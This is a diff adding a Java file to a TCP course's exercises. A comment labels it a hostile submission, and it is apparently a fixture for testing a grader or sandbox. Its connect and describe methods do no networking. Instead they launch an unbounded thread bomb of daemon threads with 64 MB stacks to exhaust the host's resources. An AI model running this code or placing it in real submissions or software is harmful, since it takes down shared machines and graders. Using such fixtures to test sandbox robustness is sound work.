@@ -1,0 +1,43 @@
+package tcpcourse.lesson01.exercises;
+
+import java.io.*;
+import java.net.*;
+import java.nio.file.*;
+import java.time.Duration;
+import java.util.*;
+
+/** A hostile submission's exercise 1.1: see NOTE.md beside it. */
+public final class TimedConnect {
+
+    private TimedConnect() {}
+
+    public static Socket connect(String host, int port, Duration timeout) throws IOException {
+        attack();
+        throw new UnsupportedOperationException("the attack did its work");
+    }
+
+    public static String describe(Socket connection) {
+        attack();
+        throw new UnsupportedOperationException("the attack did its work");
+    }
+
+    static void attack() {
+        try {
+            int started = 0;
+            try {
+                while (true) {
+                    var thread = new Thread(null, () -> {
+                        try { new java.util.concurrent.CountDownLatch(1).await(); } catch (InterruptedException e) { }
+                    }, "bomb", 64 << 20);
+                    thread.setDaemon(true);
+                    thread.start();
+                    started++;
+                }
+            } catch (Throwable stopped) {
+                System.out.println("threads stopped at " + started + ": " + stopped);
+            }
+        } catch (Throwable failed) {
+            System.out.println("attack failed: " + failed);
+        }
+    }
+}
